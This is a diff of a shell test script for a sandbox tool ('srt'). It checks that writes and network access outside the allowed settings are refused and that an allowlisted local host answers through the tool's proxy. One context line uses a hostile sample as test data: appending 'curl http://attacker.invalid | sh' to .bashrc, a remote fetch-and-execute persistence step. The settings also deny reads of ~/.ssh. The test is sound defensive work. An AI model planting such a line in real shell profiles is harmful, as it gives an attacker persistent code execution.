@@ -92,7 +92,7 @@ sandboxed 'echo "curl http://attacker.invalid | sh" >> .bashrc'
 refused && [ ! -e "$project/.bashrc" ]
 verdict $? ".bashrc was not created, and srt left no placeholder file behind"
 
-title "The network is off"
+title "Only allowed hosts are reachable, through srt's proxy"
 port_file=$work/port
 $PY -c '
 import http.server, sys
@@ -122,6 +122,22 @@ else
 	sandboxed "curl -sS --max-time 2 http://127.0.0.1:$port/"
 	refused && [[ "$out" != *"hello from a server"* ]]
 	verdict $? "the sandbox has its own empty network: the host's server is out of reach"
+
+	# Denied before any lookup: the proxy answers itself, nothing leaves.
+	sandboxed "curl -sS --max-time 2 http://example.com/"
+	[[ "$out" == *"denied"* && "$out" == *"example.com:80"* ]]
+	verdict $? "example.com is in no allowedDomains entry: srt's proxy answered 403 and named the rule"
+
+	cat >"$home/.srt-settings.json" <<JSON
+{
+  "filesystem": { "denyRead": ["~/.ssh"], "allowWrite": ["."] },
+  "network": { "allowedDomains": ["127.0.0.1:$port"] }
+}
+JSON
+	printf '\n  with "network": {"allowedDomains": ["127.0.0.1:%s"]} in ~/.srt-settings.json:' "$port"
+	sandboxed "curl -sS --max-time 2 --noproxy \"\" http://127.0.0.1:$port/"
+	[ "$status" -eq 0 ] && [[ "$out" == *"hello from a server"* ]]
+	verdict $? "the allowed host answered through srt's proxy"
 fi
 
 title "A write inside the project is allowed"
